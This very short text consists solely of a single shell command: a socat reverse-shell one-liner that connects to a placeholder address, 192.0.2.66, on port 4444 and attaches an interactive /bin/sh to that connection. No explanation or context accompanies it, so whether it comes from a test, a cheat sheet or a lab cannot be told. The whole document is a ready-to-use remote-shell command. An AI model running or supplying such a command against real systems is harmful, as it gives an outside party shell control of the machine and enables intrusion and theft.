socat TCP4:192.0.2.66:4444 EXEC:/bin/sh
